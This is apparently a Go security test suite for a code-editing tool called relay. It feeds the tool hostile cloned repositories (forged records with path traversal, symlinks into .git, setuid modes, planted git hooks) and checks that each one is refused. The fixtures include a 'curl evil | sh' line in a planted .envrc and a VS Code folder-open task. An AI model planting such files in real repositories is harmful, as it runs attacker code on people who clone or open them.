package attack

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/relaydev/relay/internal/run"
	"github.com/relaydev/relay/internal/testsupport"
)

// A hostile repository: everything a clone can carry. Transaction records in
// a tracked (or copied-in) .relaycode/, symlinks git checks out as they are,
// hard links, and a config that names commands. Merely running relay in it
// must not write outside the project, into .git/, or run anything.

// recordID is the uuid every hostile record below is filed under.
const recordID = "0badc0de-0000-4000-8000-000000000001"

// hostileRecords are pending records a clone could carry. Each is written
// to .relaycode/<recordID>.pending.yml; the project holds a file whose
// content differs from the snapshot, so recovery would act if it trusted
// the record.
var hostileRecords = []struct {
	name, body string
}{
	// The uuid field, not the file name, used to build .relaycode/undone/<uuid>:
	// "../../.." from .relaycode/undone/ is the home directory.
	{"uuid field traverses to home", record("../../..", `  .bashrc: "old\n"`, "")},
	{"uuid field absolute", record("/tmp/relay-attack-undone", `  .bashrc: "old\n"`, "")},
	{"uuid field differs from file name", record("0badc0de-0000-4000-8000-000000000002", `  .bashrc: "old\n"`, "")},
	{"uuid field not a uuid", record("not-a-uuid", `  .bashrc: "old\n"`, "")},
	// Snapshot keys are paths recovery writes.
	{"snapshot writes git config fsmonitor", record(recordID, `  .git/config: "[core]\n\tfsmonitor = touch fsmonitor-pwned\n"`, "")},
	{"snapshot writes git hook 0755", record(recordID, `  .git/hooks/pre-commit: "#!/bin/sh\ntouch hook-pwned\n"`, "modes:\n  .git/hooks/pre-commit: \"0755\"\n")},
	{"snapshot writes GIT upper case", record(recordID, `  .GIT/config: "x"`, "")},
	{"snapshot writes nested git", record(recordID, `  sub/.git/config: "x"`, "")},
	{"snapshot writes dotdot", record(recordID, `  ../outside.txt: "pwned"`, "")},
	{"snapshot writes home bashrc by dotdot", record(recordID, `  ../.bashrc: "pwned"`, "")},
	{"snapshot writes absolute", record(recordID, `  /tmp/relay-attack-abs.txt: "pwned"`, "")},
	{"snapshot writes relaycode record", record(recordID, `  .relaycode/0badc0de-0000-4000-8000-000000000009.yml: "uuid: x"`, "")},
	{"snapshot path not clean", record(recordID, `  ./a/../README.md: "pwned"`, "")},
	{"snapshot deletes README via null and dotdot", record(recordID, `  ../project/README.md: null`, "")},
	// Modes are permission bits only.
	{"mode setuid", record(recordID, `  tool.sh: "#!/bin/sh\n"`, "modes:\n  tool.sh: \"4755\"\n")},
	{"mode setgid", record(recordID, `  tool.sh: "#!/bin/sh\n"`, "modes:\n  tool.sh: \"2755\"\n")},
	{"mode sticky", record(recordID, `  tool.sh: "#!/bin/sh\n"`, "modes:\n  tool.sh: \"1777\"\n")},
	{"mode file type bits", record(recordID, `  tool.sh: "#!/bin/sh\n"`, "modes:\n  tool.sh: \"20000644\"\n")},
	{"mode not octal", record(recordID, `  tool.sh: "#!/bin/sh\n"`, "modes:\n  tool.sh: \"rwxr-xr-x\"\n")},
	// Created directories are removed by rollback when empty.
	{"createdDirs git hooks", record(recordID, `  .bashrc: "old\n"`, "createdDirs:\n  - .git/refs/tags\n")},
	{"createdDirs dotdot", record(recordID, `  .bashrc: "old\n"`, "createdDirs:\n  - ../empty-bait\n")},
	// Records that do not parse must not lock the user out.
	{"unparsable yaml", "uuid: [unclosed\nsnapshot: {\n"},
	{"empty file", ""},
	{"binary garbage", "\x00\x01\x02\xff\xfe"},
	{"no uuid", "projectId: x\nsnapshot:\n  .bashrc: \"old\\n\"\n"},
}

// record is a pending record body with the given uuid field, snapshot
// lines and extra top-level YAML.
func record(uuid, snapshot, extra string) string {
	return fmt.Sprintf("uuid: %q\nprojectId: attack\ncreatedAt: 2026-01-01T00:00:00Z\nreasoning: []\noperations: []\nsnapshot:\n%s\n%spid: 1\napproved: false\n", uuid, snapshot, extra)
}

// hostileRepo is a project as a clone would bring it: config, a file whose
// content differs from every hostile snapshot, an empty-dir bait outside.
func hostileRepo(t *testing.T) *sandbox {
	t.Helper()
	s := newSandbox(t)
	s.WriteFile("relaycode.config.json", `{"projectId":"attack","core":{"enableNotifications":false}}`, 0o644)
	s.WriteFile("README.md", "readme\n", 0o644)
	s.WriteFile(".bashrc", "attacker content meant for ~/.bashrc\n", 0o644)
	s.WriteFile("tool.sh", "#!/bin/sh\necho tool\n", 0o755)
	if err := os.MkdirAll(filepath.Join(s.Home, "empty-bait"), 0o755); err != nil {
		t.Fatal(err)
	}
	return s
}

// noPwned fails when any hostile command left its marker anywhere.
func noPwned(t *testing.T, s *sandbox) {
	t.Helper()
	_ = filepath.WalkDir(filepath.Dir(s.Home), func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.Contains(d.Name(), "pwned") {
			t.Errorf("a hostile command ran or wrote: %s exists", p)
		}
		return nil
	})
	if _, err := os.Stat("/tmp/relay-attack-abs.txt"); err == nil {
		t.Errorf("/tmp/relay-attack-abs.txt was written")
	}
	if _, err := os.Stat("/tmp/relay-attack-undone"); err == nil {
		t.Errorf("/tmp/relay-attack-undone was written")
	}
}

// TestRepoRecordsFromClone: each hostile record, once tracked by git (it
// came with the clone) and once copied in untracked (an unpacked archive),
// is never acted on. relay version and relay doctor never even recover;
// relay log goes on with a warning that names the record and a way out.
func TestRepoRecordsFromClone(t *testing.T) {
	for _, tracked := range []bool{true, false} {
		for i, rec := range hostileRecords {
			name := rec.name + map[bool]string{true: " (tracked)", false: " (untracked)"}[tracked]
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				s := hostileRepo(t)
				if !tracked {
					primeKey(t, s) // this machine has a key; the record just is not sealed with it
				}
				s.WriteFile(".relaycode/"+recordID+".pending.yml", rec.body, 0o644)
				s.Git("add", "-A")
				if !tracked {
					s.Git("rm", "-q", "--cached", ".relaycode/"+recordID+".pending.yml")
				}
				s.Git("commit", "-qm", "clone")
				world := s.World()

				if r := s.Run("", "version"); r.Code != 0 || strings.Contains(r.Stderr, "Warning") {
					t.Errorf("relay version must not look at records:\n%s", r)
				}
				r := s.Run("", "log")
				if r.Code != 0 {
					t.Errorf("relay log must go on past a record it refuses:\n%s", r)
				}
				want := "carries no seal from relay on this machine, so relay did not write it here"
				if tracked {
					want = "tracked by git"
				}
				if !strings.Contains(r.Stderr, "left "+filepath.Join(s.Project, ".relaycode", recordID+".pending.yml")+" alone: it ") ||
					!strings.Contains(r.Stderr, want) || !strings.Contains(r.Stderr, "Try: move it out of the project") {
					t.Errorf("want a warning naming the record (%s) and a way out:\n%s", want, r)
				}
				if i%8 == 0 { // relay doctor probes everything (seconds): a sample of records
					d := s.Run("", "doctor")
					if !strings.Contains(d.Stdout, "pending records") || !strings.Contains(d.Stdout, recordID) || !strings.Contains(d.Stdout, "mv ") {
						t.Errorf("relay doctor must explain the record:\n%s", d)
					}
				}
				s.Git("status", "--short")
				SameTree(t, "home and project", world, s.World())
				noPwned(t, s)
				if b, err := os.ReadFile(filepath.Join(s.Project, ".relaycode", recordID+".pending.yml")); err != nil || string(b) != rec.body {
					t.Errorf("the refused record must be left as it is: %q, %v", b, err)
				}
			})
		}
	}
}

// sealWith seals a record body the way relay does (HMAC-SHA256 of the body
// with the key in $RELAY_HOME/record.key): the records below pass the
// "written on this machine" check, so only validation stands in the way.
func sealWith(t *testing.T, s *sandbox, body string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(s.Relay, "record.key"))
	if err != nil {
		t.Fatalf("no record key yet: %v", err)
	}
	key, err := hex.DecodeString(strings.TrimSpace(string(b)))
	if err != nil {
		t.Fatal(err)
	}
	m := hmac.New(sha256.New, key)
	m.Write([]byte("relay record v1\x00"))
	m.Write([]byte(body))
	return body + "seal: " + hex.EncodeToString(m.Sum(nil)) + "\n"
}

// primeKey makes relay create this machine's record key, as any apply does.
func primeKey(t *testing.T, s *sandbox) {
	t.Helper()
	if r := s.Run(Answer(uuidN(1), FileBlock("primed.txt", "x")), "apply", "-", "-y"); r.Code != 0 {
		t.Fatalf("priming apply failed:\n%s", r)
	}
}

// TestRepoSealedButHostileRecords: even a record carrying this machine's
// seal (a leaked key, a bug) is validated like an answer before recovery
// acts. The command stops with an error naming the record and how to move
// it aside; version and doctor still work, and once moved, so does the rest.
func TestRepoSealedButHostileRecords(t *testing.T) {
	for _, rec := range hostileRecords {
		if rec.name == "empty file" || rec.name == "binary garbage" {
			continue // no line to seal after: covered by the clone test
		}
		t.Run(rec.name, func(t *testing.T) {
			t.Parallel()
			s := hostileRepo(t)
			primeKey(t, s)
			pending := filepath.Join(s.Project, ".relaycode", recordID+".pending.yml")
			s.WriteFileAbs(pending, sealWith(t, s, rec.body), 0o644)
			world := s.World()

			if r := s.Run("", "version"); r.Code != 0 {
				t.Errorf("relay version must work whatever the records:\n%s", r)
			}
			if r := s.Run("", "help"); r.Code != 0 {
				t.Errorf("relay help must work whatever the records:\n%s", r)
			}
			d := s.Run("", "doctor")
			if d.Code == 0 || !strings.Contains(d.Stdout, recordID) || !strings.Contains(d.Stdout, "mv ") {
				t.Errorf("relay doctor must fail the record check and say how to move it aside:\n%s", d)
			}
			r := s.Run("", "log")
			if r.Code == 0 || !strings.Contains(r.Stderr, "cannot recover "+pending) || !strings.Contains(r.Stderr, "Try: ") || !strings.Contains(r.Stderr, "mv ") {
				t.Errorf("relay log must stop with the record and a way out:\n%s", r)
			}
			if strings.Contains(r.Stderr, "Try: relay doctor\n") {
				t.Errorf("the hint must not loop back to relay doctor alone:\n%s", r)
			}
			s.Git("status", "--short")
			SameTree(t, "home and project", world, s.World())
			noPwned(t, s)
			// The way out works.
			if err := os.Rename(pending, pending+".bad"); err != nil {
				t.Fatal(err)
			}
			if r := s.Run("", "log"); r.Code != 0 {
				t.Errorf("after moving the record aside relay log must work:\n%s", r)
			}
		})
	}
}

// TestRepoStateDirLinks: a clone can make .relaycode itself, or files in it,
// symlinks. relay never follows them to write.
func TestRepoStateDirLinks(t *testing.T) {
	attacks := []struct {
		name  string
		setup func(s *sandbox)
	}{
		{"relaycode is a link to .git", func(s *sandbox) { symlink(t, ".git", filepath.Join(s.Project, ".relaycode")) }},
		{"relaycode is a link to home", func(s *sandbox) { symlink(t, "..", filepath.Join(s.Project, ".relaycode")) }},
		{"relay.lock links to home bashrc", func(s *sandbox) {
			symlink(t, "../../.bashrc", filepath.Join(s.Project, ".relaycode", "relay.lock"))
		}},
		{"relay.lock links to git config", func(s *sandbox) {
			symlink(t, "../.git/config", filepath.Join(s.Project, ".relaycode", "relay.lock"))
		}},
		{"pending record links to home secret", func(s *sandbox) {
			symlink(t, "../../secret.txt", filepath.Join(s.Project, ".relaycode", recordID+".pending.yml"))
		}},
	}
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			s := hostileRepo(t)
			if err := os.MkdirAll(filepath.Join(s.Project, ".relaycode"), 0o755); err != nil {
				t.Fatal(err)
			}
			if strings.HasPrefix(a.name, "relaycode is") {
				os.Remove(filepath.Join(s.Project, ".relaycode"))
			}
			a.setup(s)
			s.Git("add", "-A")
			s.Git("commit", "-qm", "clone")
			world := Snapshot(t, filepath.Dir(s.Home), s.Relay)
			s.Run("", "log")
			s.Run(Answer(uuidN(200+i), FileBlock("new.txt", "x")), "apply", "-", "-y")
			after := Snapshot(t, filepath.Dir(s.Home), s.Relay)
			for k, v := range world {
				if strings.HasPrefix(k, filepath.Join("home", "project")+"/") && !strings.Contains(k, ".git") {
					continue // project files may change; .git and everything outside may not
				}
				if after[k] != v {
					t.Errorf("%s changed:\n  before %s\n  after  %s", k, v, after[k])
				}
			}
			for k := range after {
				if _, ok := world[k]; !ok && (strings.Contains(k, ".git/") || !strings.HasPrefix(k, filepath.Join("home", "project"))) &&
					!strings.HasSuffix(k, ".git/index") && !strings.HasSuffix(k, "/index.lock") {
					t.Errorf("%s appeared", k)
				}
			}
		})
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// TestRepoClonedHookGroupIsNotKilled: a record may name a process group for
// recovery to kill. From a clone it is never used, even when it names a real
// process group of this user with its exact start identity.
func TestRepoClonedHookGroupIsNotKilled(t *testing.T) {
	if _, err := os.Stat("/proc/self/stat"); err != nil {
		t.Skip("needs /proc")
	}
	victim := exec.Command("sleep", "300")
	victim.SysProcAttr = ownGroup(t)
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = victim.Process.Kill(); _ = victim.Wait() }()
	start := procStart(t, victim.Process.Pid)
	boot, _ := os.ReadFile("/proc/sys/kernel/random/boot_id")
	group := fmt.Sprintf("group: %d %d %s\n", victim.Process.Pid, start, strings.TrimSpace(string(boot)))
	for _, tracked := range []bool{true, false} {
		s := hostileRepo(t)
		s.WriteFile(".relaycode/"+recordID+".pending.yml", record(recordID, `  README.md: "old\n"`, ""), 0o644)
		s.WriteFile(".relaycode/"+recordID+".hook", group, 0o644)
		s.Git("add", "-A")
		if !tracked {
			s.Git("rm", "-q", "--cached", "-r", ".relaycode")
		}
		s.Git("commit", "-qm", "clone")
		s.Run("", "log")
		if err := victim.Process.Signal(syscall.Signal(0)); err != nil {
			t.Fatalf("relay killed the process group a cloned record named (tracked=%v)", tracked)
		}
	}
}

// procStart is a process's start time in clock ticks (/proc/<pid>/stat field 22).
func procStart(t *testing.T, pid int) uint64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+1:])
	var n uint64
	fmt.Sscan(f[19], &n)
	return n
}

// TestRepoSymlinksIntoGit: git checks symlinks out as they are, so a clone
// can carry g -> .git. An answer path through such a link is resolved, then
// checked: writes, deletes and renames into .git/ or .relaycode/ (or out of
// the project) are refused and nothing changes.
func TestRepoSymlinksIntoGit(t *testing.T) {
	links := map[string]string{
		"g":          ".git",
		"hooks":      ".git/hooks",
		"r":          ".relaycode",
		"chain1":     "chain2",
		"chain2":     ".git",
		"deep/up":    "../.git",
		"out":        "..",
		"selfloop":   "selfloop",
		"cfglink":    ".git/config",
		"docs/git":   "../g",
		"dotslash":   "./.git/./hooks",
		"projroot":   ".",
		"upper":      ".GIT",
		"sub/nested": "../sub/.git",
	}
	attacks := []struct {
		name   string
		blocks []string
	}{
		{"write through g to git config", []string{FileBlock("g/config", "[core]\n\tfsmonitor = touch fsmonitor-pwned")}},
		{"write git hook through hooks link", []string{FileBlock("hooks/pre-commit", "#!/bin/sh\ntouch hook-pwned")}},
		{"write through g to git hook", []string{FileBlock("g/hooks/post-checkout", "#!/bin/sh\ntouch hook-pwned")}},
		{"rename executable into hooks", []string{RenameBlock("tool.sh", "g/hooks/pre-commit")}},
		{"rename executable into hooks link", []string{RenameBlock("tool.sh", "hooks/pre-commit")}},
		{"rename git config out through g", []string{RenameBlock("g/config", "stolen-config")}},
		{"delete git HEAD through g", []string{DeleteBlock("g/HEAD")}},
		{"write relay record through r", []string{FileBlock("r/0badc0de-0000-4000-8000-000000000003.pending.yml", "uuid: x")}},
		{"write through a link chain", []string{FileBlock("chain1/config", "pwned")}},
		{"write through a dotdot link", []string{FileBlock("deep/up/config", "pwned")}},
		{"write outside through out", []string{FileBlock("out/pwned.txt", "pwned")}},
		{"write home bashrc through out", []string{FileBlock("out/.bashrc", "pwned")}},
		{"write through a self loop", []string{FileBlock("selfloop/x", "pwned")}},
		{"write onto a link to git config", []string{FileBlock("cfglink", "pwned")}},
		{"write through a link to a link", []string{FileBlock("docs/git/config", "pwned")}},
		{"write through dot segments in a link", []string{FileBlock("dotslash/pre-push", "pwned")}},
		{"write through a link to the root", []string{FileBlock("projroot/.git/config", "pwned")}},
		{"write through a link to upper-case GIT", []string{FileBlock("upper/config", "pwned")}},
		{"write through a link into a nested git", []string{FileBlock("sub/nested/config", "pwned")}},
		{"good write then a bad one", []string{FileBlock("fine.txt", "ok"), FileBlock("g/config", "pwned")}},
	}
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			s := hostileRepo(t)
			s.WriteFile("sub/.git/config", "[core]\n", 0o644)
			s.WriteFile("docs/readme.md", "docs\n", 0o644)
			for link, target := range links {
				p := filepath.Join(s.Project, filepath.FromSlash(link))
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				symlink(t, target, p)
			}
			s.Git("add", "-A")
			s.Git("commit", "-qm", "clone with links")
			world := s.World()
			r := s.Run(Answer(uuidN(300+i), a.blocks...), "apply", "-", "-y")
			if r.Code == 0 || !strings.Contains(r.Stderr, "refusing path") {
				t.Errorf("want the path refused, got\n%s", r)
			}
			s.Git("status", "--short")
			SameTree(t, "home and project", world, s.World())
			noPwned(t, s)
		})
	}
}

// TestRepoAbsoluteLinkIntoGit: a link with an absolute target inside the
// project is resolved like any other and refused when it lands in .git;
// links to ordinary project directories keep working.
func TestRepoAbsoluteLinkIntoGit(t *testing.T) {
	s := hostileRepo(t)
	symlink(t, filepath.Join(s.Project, ".git"), filepath.Join(s.Project, "abs"))
	symlink(t, "docs", filepath.Join(s.Project, "reldocs"))
	s.WriteFile("docs/readme.md", "docs\n", 0o644)
	s.Git("add", "-A")
	s.Git("commit", "-qm", "clone")
	world := s.World()
	r := s.Run(Answer(uuidN(350), FileBlock("abs/config", "pwned")), "apply", "-", "-y")
	if r.Code == 0 || !strings.Contains(r.Stderr, "leads to .git/config") {
		t.Errorf("want the path refused, got\n%s", r)
	}
	SameTree(t, "home and project", world, s.World())
	// A relative link inside the project to an ordinary directory still works.
	r = s.Run(Answer(uuidN(351), FileBlock("reldocs/new.md", "new")), "apply", "-", "-y")
	if r.Code != 0 {
		t.Fatalf("a link to an ordinary project directory must work:\n%s", r)
	}
	if b, _ := os.ReadFile(filepath.Join(s.Project, "docs", "new.md")); string(b) != "new\n" {
		t.Errorf("docs/new.md = %q", b)
	}
}

// TestRepoHardLinkOutside: a project file hard-linked to a file outside the
// project (an unpacked archive, a shared checkout) is replaced by a new file,
// never written through: the outside file keeps its bytes.
func TestRepoHardLinkOutside(t *testing.T) {
	attacks := []struct {
		name   string
		blocks []string
		want   string // content of link.txt afterwards; "" means deleted
	}{
		{"edit a hard-linked file", []string{FileBlock("link.txt", "edited")}, "edited\n"},
		{"patch a hard-linked file", []string{"```text // link.txt multi-search-replace\n<<<<<<< SEARCH\nbait secret\n=======\nreplaced\n>>>>>>> REPLACE\n```\n"}, "replaced\n"},
		{"delete a hard-linked file", []string{DeleteBlock("link.txt")}, ""},
		{"rename a hard-linked file", []string{RenameBlock("link.txt", "moved.txt")}, ""},
	}
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			s := hostileRepo(t)
			secret := filepath.Join(s.Home, "secret.txt")
			if err := os.Link(secret, filepath.Join(s.Project, "link.txt")); err != nil {
				t.Fatal(err)
			}
			before, _ := os.ReadFile(secret)
			r := s.Run(Answer(uuidN(400+i), a.blocks...), "apply", "-", "-y")
			if r.Code != 0 {
				t.Fatalf("apply failed:\n%s", r)
			}
			if after, _ := os.ReadFile(secret); string(after) != string(before) {
				t.Errorf("the file outside the project was written through its hard link: %q", after)
			}
			got, err := os.ReadFile(filepath.Join(s.Project, "link.txt"))
			if a.want == "" && err == nil || a.want != "" && string(got) != a.want {
				t.Errorf("link.txt = %q, %v; want %q", got, err, a.want)
			}
			// Reverting restores the project file, still without touching the outside one.
			if r := s.Run("", "revert", "-y"); r.Code != 0 {
				t.Fatalf("revert failed:\n%s", r)
			}
			if after, _ := os.ReadFile(secret); string(after) != string(before) {
				t.Errorf("revert wrote through the hard link: %q", after)
			}
		})
	}
}

// TestRepoHookGrandchildDiesWithCrash: relay is killed -9 while its
// post-command runs; the command's background grandchild would go on writing
// into the project after recovery restored it. Recovery kills the hook's
// whole process group and returns only once it is gone.
func TestRepoHookGrandchildDiesWithCrash(t *testing.T) {
	if _, err := os.Stat("/proc/self/stat"); err != nil {
		t.Skip("needs /proc")
	}
	s := hostileRepo(t)
	mark := filepath.Join(s.Home, "at-post")
	gpid := filepath.Join(s.Home, "grandchild.pid")
	post := fmt.Sprintf(`(trap '' HUP; while :; do echo X >> grand.log; sleep 0.05; done) & echo $! > %s; touch %s; sleep 300`, gpid, mark)
	s.WriteFile("relaycode.config.json", fmt.Sprintf(`{"projectId":"attack","core":{"enableNotifications":false},"patch":{"postCommand":%q}}`, post), 0o644)
	if r := s.Run("", "trust"); r.Code != 0 { // the person trusts this config: its command is theirs
		t.Fatalf("relay trust:\n%s", r)
	}
	s.Git("add", "-A")
	s.Git("commit", "-qm", "base")
	before := Snapshot(t, s.Project, filepath.Join(s.Project, ".relaycode"), filepath.Join(s.Project, ".git"), filepath.Join(s.Project, "grand.log"))

	cmd := exec.Command(relayBin, "apply", "-", "-y")
	cmd.Dir, cmd.Env = s.Project, s.Env
	cmd.Stdin = strings.NewReader(Answer(uuidN(500), FileBlock("README.md", "changed")))
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waitFile(t, mark, cmd)
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	b, err := os.ReadFile(gpid)
	if err != nil {
		t.Fatal(err)
	}
	var pid int
	fmt.Sscan(string(b), &pid)
	if !run.Alive(pid) {
		t.Fatalf("the grandchild %d was already gone before recovery; the test proves nothing", pid)
	}
	r := s.Run("", "log")
	if !strings.Contains(r.Stderr, "Recovered interrupted transaction "+uuidN(500)) {
		t.Fatalf("want recovery:\n%s", r)
	}
	if run.Alive(pid) {
		_ = testsupport.Signal(pid, syscall.SIGKILL)
		t.Fatalf("the post-command's grandchild %d outlived recovery", pid)
	}
	SameTree(t, "project", before, Snapshot(t, s.Project, filepath.Join(s.Project, ".relaycode"), filepath.Join(s.Project, ".git"), filepath.Join(s.Project, "grand.log")))
	g1, _ := os.ReadFile(filepath.Join(s.Project, "grand.log"))
	// Nothing is left that could write: run another command and compare.
	s.Run("", "log")
	g2, _ := os.ReadFile(filepath.Join(s.Project, "grand.log"))
	if string(g1) != string(g2) {
		t.Errorf("something still writes grand.log after recovery")
	}
}

// waitFile waits until name exists (the hook reached its mark) or cmd exits.
func waitFile(t *testing.T, name string, cmd *exec.Cmd) {
	t.Helper()
	for i := 0; ; i++ {
		if _, err := os.Stat(name); err == nil {
			return
		}
		if cmd.ProcessState != nil || i > 6000 {
			t.Fatalf("%s never appeared", name)
		}
		time.Sleep(10 * time.Millisecond) // polling for a condition, not timing
	}
}

// TestRepoInitLinks: relay init in a fresh clone writes .relaycode/ and
// .gitignore; a clone that made them links cannot send those writes out of
// the project or into .git.
func TestRepoInitLinks(t *testing.T) {
	attacks := []struct {
		name, link, target string
	}{
		{"relaycode links to home", ".relaycode", ".."},
		{"relaycode links to git", ".relaycode", ".git"},
		{"gitignore links to home bashrc", ".gitignore", "../.bashrc"},
		{"gitignore links to git config", ".gitignore", ".git/config"},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			s := newSandbox(t)
			s.WriteFile("README.md", "readme\n", 0o644)
			symlink(t, a.target, filepath.Join(s.Project, a.link))
			s.Git("add", "-A")
			s.Git("commit", "-qm", "clone")
			world := Snapshot(t, filepath.Dir(s.Home), s.Relay, filepath.Join(s.Project, ".git", "index"))
			r := s.Run("", "init")
			if r.Code == 0 || !strings.Contains(r.Stderr, "not a regular file") && !strings.Contains(r.Stderr, "is not a directory") {
				t.Errorf("want init refused with the reason:\n%s", r)
			}
			after := Snapshot(t, filepath.Dir(s.Home), s.Relay, filepath.Join(s.Project, ".git", "index"))
			for k, v := range world {
				if after[k] != v {
					t.Errorf("%s changed:\n  before %s\n  after  %s", k, v, after[k])
				}
			}
			for k, v := range after {
				inProject := strings.HasPrefix(k, filepath.Join("home", "project")+"/") && !strings.HasPrefix(k, filepath.Join("home", "project", ".git"))
				if _, ok := world[k]; !ok && !inProject {
					t.Errorf("%s appeared: %s", k, v)
				}
			}
		})
	}
}

// TestRepoCommittedRecordFromClone (issue 22 row 6): a committed record a
// clone carries (dated 2099 so it is "the latest") claims to have edited
// README.md, but its snapshot would write .envrc, .vscode/tasks.json and an
// executable tools/run.sh. relay log does not show it, and revert (by the
// person, or by a tool call) never writes from it: committed records are
// sealed like pending ones.
func TestRepoCommittedRecordFromClone(t *testing.T) {
	const id = "0badc0de-0000-4000-8000-0000000000c1"
	body := `uuid: "` + id + `"
projectId: attack
createdAt: 2099-01-01T00:00:00Z
gitCommitMsg: edit README.md
promptSummary: edit README.md
reasoning: []
operations: []
snapshot:
  README.md: "readme\n"
  .envrc: null
  .vscode/tasks.json: null
  tools/run.sh: null
after:
  README.md: absent
  .envrc: absent
  .vscode/tasks.json: absent
  tools/run.sh: absent
files:
  - path: README.md
    action: edit
    added: 1
    removed: 1
approved: true
`
	// the snapshot above restores nothing harmful by itself; the attack is in the
	// files revert would create: a record whose snapshot holds their content
	body = strings.Replace(body, `  .envrc: null`, `  .envrc: "curl evil | sh\n"`, 1)
	body = strings.Replace(body, `  .vscode/tasks.json: null`, `  .vscode/tasks.json: "{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"touch vscode-pwned\"}]}"`, 1)
	body = strings.Replace(body, `  tools/run.sh: null`, "  tools/run.sh: \"#!/bin/sh\\ntouch run-pwned\\n\"\nmodes:\n  tools/run.sh: \"0755\"", 1)
	for _, tracked := range []bool{true, false} {
		t.Run(map[bool]string{true: "tracked", false: "copied in"}[tracked], func(t *testing.T) {
			t.Parallel()
			s := hostileRepo(t)
			primeKey(t, s)
			s.WriteFile(".relaycode/"+id+".yml", body, 0o644)
			s.Git("add", "-A")
			if !tracked {
				s.Git("rm", "-q", "--cached", ".relaycode/"+id+".yml")
			}
			s.Git("commit", "-qm", "clone")
			r := s.Run("", "log")
			if strings.Contains(r.Stdout, id[:8]) || !strings.Contains(r.Stderr, "ignored") {
				t.Errorf("relay log must not show a record this machine did not write, and say so:\n%s", r)
			}
			s.Run("", "revert", "-y")
			s.Run("", "revert", id, "-y", "--force")
			m := startMCP(t, s, time.Minute)
			m.toolError("edit_files", map[string]any{"op": "revert", "ref": id, "force": true})
			for _, f := range []string{".envrc", ".vscode/tasks.json", "tools/run.sh"} {
				if _, err := os.Stat(filepath.Join(s.Project, f)); err == nil {
					t.Errorf("revert wrote %s from a record relay did not write", f)
				}
			}
		})
	}
}
